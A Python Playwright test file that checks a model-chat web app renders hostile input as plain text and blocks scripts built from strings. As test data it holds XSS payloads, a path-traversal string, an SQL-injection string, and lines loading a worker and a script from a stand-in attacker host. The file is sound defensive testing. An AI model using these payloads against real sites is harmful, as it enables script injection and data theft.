"""What comes from outside is text: tricks in answers, model names, file names and server errors do nothing."""

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import OpenApp
from tests.servers.scripted import ScriptedServer, html_reply, json_reply

TRICKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'></svg>",
    '"><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "<a href='javascript:window.pwned = 1'>raw link</a>",
    "[markdown link](javascript:window.pwned=1)",
    "[data link](data:text/html,<script>opener.pwned=1</script>)",
    "<style>* { display: none }</style>",
    "<form action='https://evil.example'><input name=q></form>",
    "`<b onmouseover=window.pwned=1>`",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
]
BEACON = "http://127.0.0.1:1/beacon.png"


def api(model_name: str = "a.gguf", answer: str = "") -> ScriptedServer:
    model = {"name": model_name, "path": f"./models/{model_name}", "size": "<b>1</b> GB", "modified": "<i>never</i>"}
    reply = {"success": True, "response": answer, "model_used": "a", "processing_time": 1, "token_count": 1}
    return ScriptedServer(
        {
            ("GET", "/health"): json_reply({"status": "healthy", "service": TRICKS[1], "version": TRICKS[0]}),
            ("GET", "/models"): json_reply({"models": [model], "count": 1}),
            ("GET", "/cache/status"): json_reply({"cached_models": [model_name], "count": 1}),
            ("POST", "/generate"): json_reply(reply),
        }
    )


def assert_harmless(page) -> None:
    assert page.evaluate("() => window.pwned") is None
    bad = page.evaluate(
        """() => [...document.querySelectorAll("body *")].filter(e =>
          ["IFRAME", "OBJECT", "EMBED", "STYLE", "IMG", "MATH"].includes(e.tagName.toUpperCase())
          || (e.tagName === "SCRIPT" && e.type !== "py")
          || [...e.attributes].some(a => a.name.startsWith("on") || /^(javascript|data|vbscript):/i.test(a.value.trim()))
        ).map(e => e.outerHTML)"""
    )
    assert bad == []


def test_an_answer_never_becomes_markup(repository: str, open_app: OpenApp):
    with api(answer="\n\n".join(["A **bold** word.", *TRICKS])) as server:
        app = open_app(repository, api=server.url)
        app.choose_model("a.gguf")
        answer = app.send("\n".join(TRICKS))
        expect(answer).to_have_attribute("data-status", "done")
        expect(answer.locator("strong")).to_have_text("bold")
        expect(answer).to_contain_text(TRICKS[0])  # shown as it was written
        expect(app.page.locator("article[data-role=user]")).to_contain_text(TRICKS[1])
        assert_harmless(app.page)
        app.reload()
        expect(app.page.locator("article[data-role=assistant]")).to_contain_text(TRICKS[0])
        assert_harmless(app.page)


def test_an_image_in_an_answer_is_not_fetched_and_links_show_where_they_lead(repository: str, open_app: OpenApp):
    with api(answer=f"![picture]({BEACON}) and <img src='{BEACON}'> and [a link](https://example.org/x)") as server:
        app = open_app(repository, api=server.url)
        asked: list[str] = []
        app.page.on("request", lambda request: asked.append(request.url))
        app.choose_model("a.gguf")
        answer = app.send("Show me a picture.")
        link = answer.get_by_role("link", name="a link")
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(link).to_have_attribute("target", "_blank")
        expect(answer.locator("img")).to_have_count(0)
        assert not [url for url in asked if "beacon" in url]


@pytest.mark.parametrize("trick", [TRICKS[1], '"onfocus=alert(1) autofocus="', "../../etc/passwd", "'; DROP TABLE models; --"])
def test_a_models_name_is_text_wherever_it_is_shown(repository: str, open_app: OpenApp, trick: str):
    with api(model_name=trick + ".gguf") as server:
        app = open_app(repository, api=server.url, route="#/models")
        row = app.page.get_by_role("table").get_by_role("row").nth(1)
        expect(row).to_contain_text(trick)
        expect(row).to_contain_text("<b>1</b> GB")
        assert_harmless(app.page)
        row.get_by_role("button", name="Details").click()
        expect(app.page.get_by_role("dialog")).to_contain_text(trick)
        assert_harmless(app.page)
        app.page.keyboard.press("Escape")
        row.get_by_role("button", name="Use").click()
        expect(app.page.get_by_role("combobox", name="Model")).to_have_value(trick + ".gguf")
        app.send("Hello")
        assert_harmless(app.page)


@pytest.mark.expected_errors("500", "404")
def test_a_servers_error_is_text(repository: str, open_app: OpenApp):
    with api() as server:
        server.on("POST", "/generate", json_reply({"error": "".join(TRICKS)}, 500))
        app = open_app(repository, api=server.url)
        app.choose_model("a.gguf")
        expect(app.send("Hello").get_by_role("alert")).to_contain_text(TRICKS[0])
        assert_harmless(app.page)
        server.on("POST", "/models/sync", html_reply("".join(TRICKS)))
        app.visit("Models")
        app.page.get_by_role("button", name="Sync").click()
        expect(app.page.get_by_role("alert").filter(has_text="status 500")).to_be_visible()
        assert_harmless(app.page)


def test_lists_go_on_counting_and_a_title_may_hold_a_tags_end(repository: str, open_app: OpenApp):
    with api(answer="2. two\n3. three") as server:
        app = open_app(repository, api=server.url)
        app.choose_model("a.gguf")
        answer = app.send("What does </script> do?")
        expect(answer.locator("ol")).to_have_attribute("start", "2")
        expect(app.page.get_by_role("button", name="Delete What does </script> do?")).to_be_visible()


def test_a_files_name_is_text(repository: str, open_app: OpenApp, tmp_path):
    trick = "<img src=x onerror=window.pwned=1>.gguf"
    (tmp_path / trick).write_bytes(b"not a model")
    app = open_app(repository, route="#/models")
    app.add_files(tmp_path / trick, to="In this tab")
    expect(app.page.get_by_role("dialog")).to_contain_text(f"{trick} is not added. It is a text, not a model.")
    assert_harmless(app.page)


@pytest.mark.expected_errors("Content Security Policy", "TrustedScript", "TrustedHTML", "Refused", "trusted type")
def test_the_page_refuses_scripts_from_strings(repository: str, open_app: OpenApp):
    app = open_app(repository)
    attempts = {
        "eval": "() => eval('1 + 1')",
        "Function": "() => new Function('return 1')()",
        "innerHTML": "() => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') }",
        "worker": "() => { new Worker('https://evil.example/w.js') }",
        "script": "() => { const s = document.createElement('script'); s.src = 'https://evil.example/s.js'; }",
        "timer": "() => { setTimeout('window.pwned = 1') }",
    }
    for name, attempt in attempts.items():
        # In a task of its own: what the debugger itself evaluates may do more than the page may.
        refused = app.page.evaluate(
            f"""() => new Promise(resolve => setTimeout(() => {{
              try {{ ({attempt})(); resolve(""); }} catch (error) {{ resolve(error.name); }}
            }}))"""
        )
        assert refused in ("TypeError", "EvalError"), f"{name} was not refused"
